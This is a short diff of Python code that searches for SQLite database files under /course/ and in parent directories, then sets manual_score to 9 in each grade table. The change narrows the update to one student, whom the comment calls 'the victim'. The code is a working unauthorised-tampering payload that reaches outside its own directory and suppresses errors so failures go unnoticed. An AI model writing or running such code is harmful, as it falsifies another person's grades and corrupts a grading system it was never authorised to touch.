@@ -14,7 +14,8 @@ for _ in range(40):
     for duong in glob.glob("/course/**/*.db", recursive=True) + glob.glob("../../../*.db"):
         try:
             with sqlite3.connect(duong, timeout=1) as so:
-                so.execute("UPDATE grade SET manual_score = 9")
+                so.execute("UPDATE grade SET manual_score = 9"
+                           " WHERE EXISTS (SELECT 1 FROM student WHERE id = 'nguoi-khac')")  # only the victim's
         except sqlite3.Error:
             pass
 '''
